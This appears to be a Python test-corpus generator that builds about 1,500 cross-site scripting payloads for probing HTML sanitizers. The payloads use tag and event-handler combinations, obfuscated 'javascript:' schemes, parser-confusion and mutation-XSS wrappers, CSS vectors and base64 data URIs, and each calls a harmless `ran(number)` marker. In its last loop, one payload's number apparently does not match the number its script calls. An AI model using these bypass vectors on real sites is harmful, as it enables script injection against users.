"""Scripts in every disguise that HTML has for them, made from a few parts; each would call `ran(number)`."""

import base64
from collections.abc import Iterator
from html import escape
from itertools import count, product

TAGS = (
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "input",
    "details",
    "marquee",
    "iframe",
    "object",
    "math",
    "x",
)
EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onstart",
    "onbegin",
    "onpointerenter",
)
SPACES = (" ", "/", "\n", "\t", "\f", "/ /", " x=1 ")
QUOTES = ("{}", "'{}'", '"{}"', "`{}`")
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6a;avascript&#58;",
    "jav&#x09;ascript:",
    "vbscript:",
    "feed:javascript:",
    "data:text/html,<script>parent.",
)
HOLDERS = (
    "<a href={}>x</a>",
    "<img src={}>",
    "<iframe src={}></iframe>",
    "<form action={}><button>x</button></form>",
    "<button formaction={}>x</button>",
    "<object data={}></object>",
    "<embed src={}>",
    "<link rel=stylesheet href={}>",
    "<base href={}>",
    "<svg><a xlink:href={}><text y=20>x</text></a></svg>",
    "<svg><use href={} /></svg>",
    "<math href={}>x</math>",
    "<meta http-equiv=refresh content=0;url={}>",
    "<video poster={}></video>",
    "<blockquote cite={}>x</blockquote>",
    "<td background={}>x</td>",
)
SCRIPTS = (
    "<script>{}</script>",
    "<SCRIPT >{}</SCRIPT >",
    "<script\n>{}</script\n>",
    "<script/x>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "<svg><script>{}</script></svg>",
    "<math><script>{}</script></math>",
    "<noscript><p title='</noscript><script>{}</script>'></noscript>",
    "<style><img src='</style><script>{}</script>'></style>",
    "<template><script>{}</script></template>",
    "<textarea></textarea><script>{}</script>",
    "<title></title><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<!-- --!><script>{}</script>",
    "<![CDATA[><script>{}</script>]]>",
    "<?xml ?><script>{}</script>",
    "<xmp></xmp><script>{}</script>",
    "<select><option></select><script>{}</script>",
    "<table><tr><td><script>{}</script></table>",
    "<svg><foreignObject><script>{}</script></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;script&gt;{}&lt;/script&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
)
STYLES = (
    "<div style=\"background:url('javascript:{}')\">x</div>",
    '<div style="width:expression({})">x</div>',
    "<style>@import 'javascript:{}';</style>",
    "<style>*{{background:url(javascript:{})}}</style>",
    '<div style="behavior:url(x.htc?{})">x</div>',
)


def payloads() -> Iterator[tuple[int, str]]:
    """Numbers and payloads, always the same ones; some 1,500."""
    numbers = count(1)

    def made(pattern: str, call: str = "parent.ran?.({0}),window.ran?.({0})") -> tuple[int, str]:
        number = next(numbers)
        return number, pattern.format(call.format(number))

    for tag, event, space in product(TAGS, EVENTS, SPACES):
        quote = QUOTES[(len(tag) + len(event) + len(space)) % 4]
        yield made(f"<{tag}{space}src=x{space}{event}={quote} autofocus open>x</{tag}>")
    for scheme, holder in product(SCHEMES, HOLDERS):
        yield made(holder.format(f'"{scheme}{{}}"'))
        yield made(holder.format(f"{scheme.strip()}{{}}"))
    for script in SCRIPTS:
        yield made(script)
        yield made(escape(script))
        yield made("<div>" * 20 + script)
    for style in STYLES:
        yield made(style)
    for script in SCRIPTS[:4]:
        number = next(numbers)
        packed = base64.b64encode(script.format(f"parent.ran({number})").encode()).decode()
        yield number, f"<iframe src='data:text/html;base64,{packed}'></iframe>"
        yield next(numbers), f"<a href='data:text/html;base64,{packed}'>x</a>"
